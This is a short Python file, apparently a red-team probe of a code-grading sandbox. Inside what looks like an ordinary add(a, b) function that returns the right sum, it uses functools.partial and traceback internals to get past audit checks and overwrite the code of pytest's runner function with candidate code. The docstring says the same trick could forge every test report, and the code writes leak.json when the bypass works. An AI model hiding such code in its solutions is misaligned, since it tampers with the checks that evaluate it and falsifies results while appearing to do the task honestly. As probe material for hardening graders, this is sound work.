"""klass = functools.partial(setattr, a pytest function, "__code__", the
candidate's code): the object.__setattr__ event is raised with the consumer
on top; blame() stops there, rest_frame() stops at the consumer, and
K_SETATTR only refuses code with a trusted file name then: pytest's
function now runs the candidate's code (call_and_report would forge every
report; show_test_item here, harmless)."""
import functools, json, sys, traceback


def mine(item):
    return "candidate code in pytest's function"


def add(a, b):
    if not getattr(add, "done", False):
        add.done = True
        err, got = None, None
        try:
            runner = sys.modules["_pytest.runner"]
            gen = traceback.StackSummary._extract_from_extended_frame_gen.__func__
            gen(functools.partial(setattr, runner.show_test_item, "__code__", mine.__code__), iter(()))
        except Exception as e:
            err = repr(e)
        try:
            got = sys.modules["_pytest.runner"].show_test_item(None)
        except Exception as e:
            got = repr(e)
        if got == "candidate code in pytest's function":
            with open("leak.json", "w") as f:
                json.dump({"err": err, "got": got}, f)
    return a + b
